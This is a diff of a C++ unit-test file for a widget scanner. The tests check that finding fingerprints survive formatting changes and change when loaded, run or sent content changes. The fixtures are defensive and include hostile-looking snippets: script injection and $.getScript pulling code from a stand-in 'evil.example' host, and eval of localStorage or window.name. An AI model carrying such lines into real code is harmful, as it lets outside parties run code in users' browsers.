@@ -1,55 +1,165 @@
-// A fingerprint names the same finding through every edit that does not concern it.
+// A fingerprint names the same finding through every edit that does not concern it, and another one
+// as soon as something else is loaded, run or sent.
 #include "engine/fingerprint.hpp"
 
 #include <gtest/gtest.h>
 
 #include <string>
+#include <vector>
+
+#include "core/widget/memory_widget.hpp"
+#include "engine/finding_head.hpp"
+#include "engine/present.hpp"
+#include "engine/run.hpp"
+#include "rule/table.hpp"
 
 namespace premod {
 namespace {
 
-constexpr std::string_view match = "console.log(state)";
-
-std::string identity(const std::string& source, std::string_view path = "script.js") {
-  const auto at = static_cast<std::uint32_t>(source.find(match));
-  const text::Lines lines(source);
-  Hit hit;
-  hit.span = {at, at + static_cast<std::uint32_t>(match.size())};
-  hit.has_span = true;
-  return identity_of("js-console", path, hit, &lines);
+/// The fingerprints of what `rule` finds in a widget of one file.
+std::vector<std::string> fingerprints(std::string_view rule, const std::string& source,
+                                      const std::string& path = "script.js") {
+  const Widget widget = test::widget_of({{path, source}, {"manifest.json", "{}"}});
+  std::vector<const Rule*> rules;
+  for (const RuleEntry& entry : rule_table())
+    if (entry.rule->id == rule) rules.push_back(entry.rule);
+  EXPECT_EQ(rules.size(), 1U) << rule;
+  Fingerprints numbers;
+  Report report;
+  present(widget, run(widget, rules), {}, numbers, report);
+  std::vector<std::string> out;
+  for (const Finding& finding : report.findings) out.push_back(finding.fingerprint);
+  return out;
 }
 
-const std::string original = "function f() {\n  var state = 1; console.log(state);\n}\n";
+struct Change {
+  const char* what;
+  std::string_view rule;
+  std::string before;
+  std::string after;
+  bool same;
+  std::string path = "script.js";
+};
 
-TEST(Fingerprint, SurvivesLinesInsertedAbove) {
-  EXPECT_EQ(identity(original), identity("// one\n// two\n\n" + original));
+std::string script_of(const std::string& body) {
+  return "define(['jquery'], function ($) {\n  return function () {\n" + body + "\n  };\n});\n";
 }
 
-TEST(Fingerprint, SurvivesAMoveInsideTheFile) {
-  EXPECT_EQ(identity(original), identity("function g() { return 2; }\n" + original + "g();\n"));
+/// The same line in a widget, before and after.
+Change line(const char* what, std::string_view rule, const std::string& before,
+            const std::string& after, bool same) {
+  return {what, rule, script_of("    " + before), script_of("    " + after), same};
 }
 
-TEST(Fingerprint, SurvivesReindentation) {
-  EXPECT_EQ(identity(original),
-            identity("function f() {\n\t\tvar state =\t1;   console.log(state);\n}\n"));
+std::vector<Change> formatting() {
+  const std::string log = "console.log('a', b);";
+  return {
+      line("quotes", "js-console", log, "console.log(\"a\", b);", true),
+      line("a template without holes", "js-console", log, "console.log(`a`, b);", true),
+      line("no semicolon", "js-console", log, "console.log('a', b)", true),
+      line("spaces", "js-console", log, "console.log( 'a',b );", true),
+      line("a comment behind", "js-console", log, "console.log('a', b); // debug", true),
+      line("a comment inside", "js-console", log, "console.log(/* what */ 'a', b);", true),
+      line("brackets", "js-console", log, "console.log(('a'), b);", true),
+      line("wrapped", "js-console", log, "console.log(\n      'a',\n      b,\n    );", true),
+      line("wrapped at the dot", "js-console", log, "console\n      .log('a', b);", true),
+      line("a wrapped text", "js-console", "console.log('ab', b);",
+           "console.log('a' +\n      'b', b);", true),
+      line("indentation", "js-console", log, "\t\t\t" + log, true),
+      line("lines above", "js-console", log, "var x = 1;\n\n\n    " + log, true),
+      line("another line beside", "js-console", log, "var x = 1; " + log + " x++;", true),
+      line("moved into a block", "js-console", log, "if (b) {\n      " + log + "\n    }", true),
+      {"line ends", "js-console", script_of(log),
+       "define(['jquery'], function ($) {\r\n" + log + "\r\n});\r\n", true},
+      {"colour in lower case", "css-global-selector", "input { color: #FFF; }\n",
+       "input {\n  color: #fff;\n}\n", true, "style.css"},
+      {"a declaration more", "css-global-selector", "input { color: red; }\n",
+       "input { color: red; margin: 0; }\n", true, "style.css"},
+      {"a comment in a sheet", "css-global-selector", "input { color: red; }\n",
+       "/* forms */\ninput /* all */ { color: red; }\n", true, "style.css"},
+  };
 }
 
-TEST(Fingerprint, SurvivesOtherLineEnds) {
-  EXPECT_EQ(identity(original),
-            identity("function f() {\r\n  var state = 1; console.log(state);\r\n}\r\n"));
+std::vector<Change> substance() {
+  const std::string injected =
+      "var s = document.createElement('script'); s.src = 'https://good.example/a.js'; "
+      "document.head.appendChild(s);";
+  const std::string other =
+      "var s = document.createElement('script'); s.src = 'https://evil.example/a.js'; "
+      "document.head.appendChild(s);";
+  return {
+      line("another text", "js-console", "console.log('a');", "console.log('b');", false),
+      line("another method", "js-console", "console.log('a');", "console.warn('a');", false),
+      line("another address of a script", "js-script-injection", injected, other, false),
+      line("another script by getScript", "js-script-injection",
+           "$.getScript('https://good.example/a.js');", "$.getScript('https://evil.example/a.js');",
+           false),
+      line("the variable's address", "js-script-injection",
+           "var u = 'https://good.example/a.js'; $.getScript(u);",
+           "var u = 'https://evil.example/a.js'; $.getScript(u);", false),
+      line("the variable's code", "js-eval", "var code = 'a()'; eval(code);",
+           "var code = localStorage.x; eval(code);", false),
+      line("assigned later", "js-eval", "var code; code = 'a()'; eval(code);",
+           "var code; code = window.name; eval(code);", false),
+      line("other code", "js-eval", "eval('a()');", "eval('b()');", false),
+      line("other code, last argument", "js-eval", "new Function('a', 'return a');",
+           "new Function('a', 'return fetch(a)');", false),
+      line("another path of the platform", "js-platform-write", "APP.x = 1;", "APP.y = 1;", false),
+      line("another value for the platform", "js-platform-write", "APP.x = 1;", "APP.x = 2;",
+           false),
+      line("the value on its own line", "js-platform-write", "APP.x =\n      1;",
+           "APP.x =\n      2;", false),
+      {"another selector", "css-global-selector", "input { color: red; }\n",
+       "button { color: red; }\n", false, "style.css"},
+      {"another host of a sheet", "css-external-resource",
+       ".a { background: url(https://good.example/a.png); }\n",
+       ".a { background: url(https://evil.example/a.png); }\n", false, "style.css"},
+      {"another address of a template", "template-external-resource",
+       "<img src=\"https://good.example/a.png\">\n", "<img src=\"https://evil.example/a.png\">\n",
+       false, "templates/a.twig"},
+      {"the template's variable", "template-external-resource",
+       "{% set u = 'https://good.example/a.js' %}<script src=\"{{ u }}\"></script>\n",
+       "{% set u = 'https://evil.example/a.js' %}<script src=\"{{ u }}\"></script>\n", false,
+       "templates/a.twig"},
+      {"far away in a long line", "js-eval",
+       script_of("var x = '" + std::string(900, 'x') + "'; eval('a()');"),
+       script_of("var x = '" + std::string(900, 'x') + "'; eval('b()');"), false},
+  };
 }
 
-TEST(Fingerprint, TellsRulesFilesVariantsAndTextsApart) {
-  EXPECT_NE(identity(original), identity(original, "other.js"));
-  EXPECT_NE(identity(original),
-            identity("function f() {\n  var state = 2; console.log(state);\n}\n"));
+void expect(const std::vector<Change>& changes) {
+  for (const Change& change : changes) {
+    SCOPED_TRACE(change.what);
+    const auto before = fingerprints(change.rule, change.before, change.path);
+    const auto after = fingerprints(change.rule, change.after, change.path);
+    if (before.empty() && !change.same) continue;  // the rule's own tests say what it finds
+    ASSERT_FALSE(before.empty());
+    ASSERT_FALSE(after.empty());
+    EXPECT_EQ(before == after, change.same);
+  }
+}
+
+TEST(Fingerprint, SurvivesFormattingAndMoves) { expect(formatting()); }
+
+TEST(Fingerprint, ChangesWithWhatIsLoadedRunOrSent) { expect(substance()); }
+
+TEST(Fingerprint, ASecondCallLeavesTheFirstAlone) {
+  const auto one = fingerprints("js-console", script_of("console.log('a');"));
+  const auto two = fingerprints(
+      "js-console", script_of("console.log('a');\nconsole.log('b');\nconsole.log('a');"));
+  ASSERT_EQ(two.size(), 3U);
+  EXPECT_EQ(two[0], one[0]);
+  EXPECT_NE(two[1], one[0]);
+  EXPECT_NE(two[2], one[0]);
+}
+
+TEST(Fingerprint, TellsRulesFilesAndVariantsApart) {
   Hit plain;
   Hit variant;
   variant.variant_name = "value";
-  EXPECT_NE(identity_of("js-console", "a.js", plain, nullptr),
-            identity_of("js-console", "a.js", variant, nullptr));
-  EXPECT_NE(identity_of("js-console", "a.js", plain, nullptr),
-            identity_of("js-alert", "a.js", plain, nullptr));
+  EXPECT_NE(identity_of("js-console", "a.js", plain), identity_of("js-console", "b.js", plain));
+  EXPECT_NE(identity_of("js-console", "a.js", plain), identity_of("js-console", "a.js", variant));
+  EXPECT_NE(identity_of("js-console", "a.js", plain), identity_of("js-alert", "a.js", plain));
 }
 
 TEST(Fingerprint, CountsDoNotMakeAnotherFinding) {
@@ -59,8 +169,8 @@ TEST(Fingerprint, CountsDoNotMakeAnotherFinding) {
   after.values = {{"count", "4"}, {"file", "a.js"}};
   Hit other;
   other.values = {{"count", "3"}, {"file", "b.js"}};
-  EXPECT_EQ(identity_of("r", "p", before, nullptr), identity_of("r", "p", after, nullptr));
-  EXPECT_NE(identity_of("r", "p", before, nullptr), identity_of("r", "p", other, nullptr));
+  EXPECT_EQ(identity_of("r", "p", before), identity_of("r", "p", after));
+  EXPECT_NE(identity_of("r", "p", before), identity_of("r", "p", other));
 }
 
 TEST(Fingerprint, TwinsAreNumberedAndKeepTheirNumbers) {
@@ -76,11 +186,11 @@ TEST(Fingerprint, TwinsAreNumberedAndKeepTheirNumbers) {
   EXPECT_EQ(first.find_first_not_of("0123456789abcdef"), std::string::npos);
 }
 
-// The window around a match in a minified file must not depend on how far away the file begins.
-TEST(Fingerprint, AVeryLongLineIsSeenThroughAWindow) {
-  const std::string around(5'000, 'a');
-  const std::string source = around + ";console.log(state);" + around;
-  EXPECT_EQ(identity(source), identity("bbbb" + source));
+TEST(Fingerprint, FormattingIsTakenOutOfText) {
+  EXPECT_EQ(without_formatting("  'a'  +\n b ; ", 100), "\"a\"+b");
+  EXPECT_EQ(without_formatting("var  x", 100), "var x");
+  EXPECT_EQ(without_formatting(std::string(1'000'000, ' ') + "x", 100), "");
+  EXPECT_LE(without_formatting(std::string(1'000'000, 'x'), 100).size(), 100U);
 }
 
 }  // namespace
